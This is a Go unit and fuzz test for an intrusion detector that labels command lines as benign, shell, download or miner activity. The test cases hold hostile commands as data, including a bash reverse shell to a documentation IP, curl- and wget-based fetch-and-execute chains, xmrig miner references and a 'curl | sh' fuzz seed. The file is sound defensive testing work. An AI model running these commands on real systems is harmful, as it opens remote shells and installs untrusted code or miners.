package intruder

import "testing"

func TestCommand(t *testing.T) {
	j := New()
	for _, tc := range []struct {
		name  string
		words []string
		want  Kind
	}{
		{"echo", []string{"/bin/echo", "hello"}, None},
		{"a shell", []string{"/bin/bash", "-c", "echo harmless; sleep 30"}, Shell},
		{"a shell script by file", []string{"/bin/sh", "/opt/app/run.sh"}, None},
		{"jinx chain", []string{"/bin/sh", "-c", "apt-get update; wget https://example.invalid/a.tar.gz; tar xf a.tar.gz; ./app"}, Download},
		{"jinx miner", []string{"/bin/sh", "-c", "echo wget https://example.invalid/xmrig.tar.gz"}, Miner},
		{"consul wget", []string{"sh", "-c", "wget -qU- http://203.0.113.1/x -O /var/tmp/a"}, Download},
		{"consul marker", []string{"sh", "-c", "touch /tmp/.X1-unix"}, Miner},
		{"x11 socket", []string{"sh", "-c", "ls /tmp/.X11-unix"}, Shell},
		{"curl health", []string{"curl", "-fsS", "http://localhost:8080/health"}, None},
		{"curl health in a shell", []string{"sh", "-c", "curl -fsS http://localhost:8080/health || exit 2"}, Shell},
		{"reverse shell", []string{"bash", "-c", "bash -i >& /dev/tcp/203.0.113.1/443 0>&1"}, Download},
		{"chmod 755", []string{"sh", "-c", "curl -o /usr/bin/x https://x.example/x; chmod 755 /usr/bin/x; x"}, Download},
		{"chmod 644", []string{"sh", "-c", "curl -o /etc/x.conf https://x.example/x; chmod 644 /etc/x.conf"}, Shell},
		{"hidden drop", []string{"/tmp/.a/b"}, Download},
		{"backup", []string{"/usr/bin/restic", "backup", "/srv"}, None},
		{"killer", []string{"pkill", "-f", "xmrig"}, None},
		{"empty", nil, None},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := j.Command(tc.words...); got.Kind != tc.want {
				t.Errorf("got %v, want kind %d", got, tc.want)
			}
		})
	}
}

func FuzzCommand(f *testing.F) {
	f.Add("sh -c 'curl x | sh'")
	j := New()
	f.Fuzz(func(t *testing.T, s string) { j.Command(s); j.Image(s); j.Name(s) })
}
